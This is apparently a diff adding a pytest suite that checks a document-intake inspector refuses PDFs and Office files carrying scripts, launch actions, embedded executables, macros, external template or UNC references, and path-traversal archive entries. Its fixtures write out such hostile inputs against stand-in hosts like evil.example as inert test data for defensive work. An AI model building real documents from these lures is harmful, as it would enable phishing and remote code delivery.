@@ -1,0 +1,109 @@
+"""PDF and office documents that run, open, send, fetch or carry something are refused with the reason."""
+
+from pathlib import Path
+from typing import Any
+
+import pikepdf
+import pytest
+
+from tests.files.papers import PDF, action, archive, document, pdf_with, refusal, taken
+
+pytestmark = pytest.mark.usefixtures("folder")
+
+
+# ── PDF ──
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (action("JavaScript", JS=pikepdf.String("app.alert(1)")), "pdf_script"),
+        (action("Launch", F=pikepdf.String("cmd.exe")), "pdf_action"),
+        (action("SubmitForm", F=pikepdf.String("https://evil.example")), "pdf_action"),
+        (action("GoToR", F=pikepdf.String("\\\\evil.example\\share")), "pdf_action"),
+        (action("Rendition"), "pdf_media"),
+    ],
+)
+def test_pdf_that_does_something_when_opened_is_refused(change: Any, reason: str) -> None:
+    assert refusal(pdf_with(change)) == reason
+
+
+def test_pdf_with_script_in_packed_objects_or_odd_letters_is_refused() -> None:
+    def deep(pdf: Any) -> None:
+        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))
+        pdf.pages[0].AA = pikepdf.Dictionary(O=script)
+
+    packed = pdf_with(deep, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    assert b"JavaScript" not in packed
+    assert refusal(packed) == "pdf_script"
+    odd = PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61v#61Script /#4AS (x) >>")
+    assert refusal(odd) == "pdf_script"
+
+
+def test_pdf_with_an_embedded_file_is_refused() -> None:
+    def attach(pdf: Any) -> None:
+        pdf.attachments["evil.exe"] = b"MZ"
+
+    assert refusal(pdf_with(attach)) == "pdf_attachment"
+
+
+def test_pdf_with_an_xfa_form_is_refused() -> None:
+    def form(pdf: Any) -> None:
+        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
+
+    assert refusal(pdf_with(form)) == "pdf_form"
+
+
+@pytest.mark.parametrize("password", ["rahasia", ""])
+def test_pdf_that_is_locked_is_refused(password: str) -> None:
+    locked = pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="pemilik", user=password))
+    assert refusal(locked) == "pdf_locked"
+
+
+def test_pdf_with_links_pages_and_plain_forms_istaken() -> None:
+    def usual(pdf: Any) -> None:
+        go = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]))
+        pdf.Root.OpenAction = go
+        web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://menpan.go.id"))
+        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=web, Rect=[0, 0, 9, 9])
+        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([link]))
+        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array())
+
+    assert taken(pdf_with(usual)).media_type == "application/pdf"
+
+
+# ── Office documents ──
+
+
+@pytest.mark.parametrize(
+    ("parts", "reason"),
+    [
+        ({"word/vbaProject.bin": b"x"}, "office_macro"),
+        ({"word/activeX/activeX1.xml": b"x"}, "office_macro"),
+        ({"word/embeddings/oleObject1.bin": b"MZ"}, "office_embedded"),
+        ({"word/_rels/settings.xml.rels": b'<Relationship Type="t/attachedTemplate" Target="http://evil.example/a.dotm"'
+                                          b' TargetMode="External"/>'}, "office_external"),
+        ({"word/_rels/document.xml.rels": b"<Relationship Target='\\\\evil\\a.png' Type='t/image' "
+                                          b"TargetMode='External'/>"}, "office_external"),
+        ({"../../evil.sh": b"x"}, "file_damaged"),
+    ],
+)  # fmt: skip
+def test_office_document_that_runs_carries_or_fetches_is_refused(parts: dict[str, bytes], reason: str) -> None:
+    assert refusal(document(**parts)) == reason
+
+
+def test_office_document_with_macros_under_a_plain_name_is_refused() -> None:
+    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    contents = f'<Types><Override ContentType="{kind}"/></Types>'.encode()
+    macro = archive({"[Content_Types].xml": contents, "word/document.xml": b"<x/>"})
+    assert refusal(macro, "surat.docx") == "office_macro"
+
+
+def test_inspection_knows_no_settings_and_no_secrets(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    spy = tmp_path / "spy"
+    spy.write_text('#!/bin/sh\nenv > "$(dirname "$0")/seen"\necho \'{"refused": "unsupported"}\'\n')
+    spy.chmod(0o755)
+    monkeypatch.setenv("JIPP_DATABASE_URL", "postgresql://jipp:rahasia@db/jipp")
+    monkeypatch.setattr("app.files.intake.sys.executable", str(spy))
+    assert refusal(PDF) == "unsupported-type"
+    assert "rahasia" not in (tmp_path / "seen").read_text()
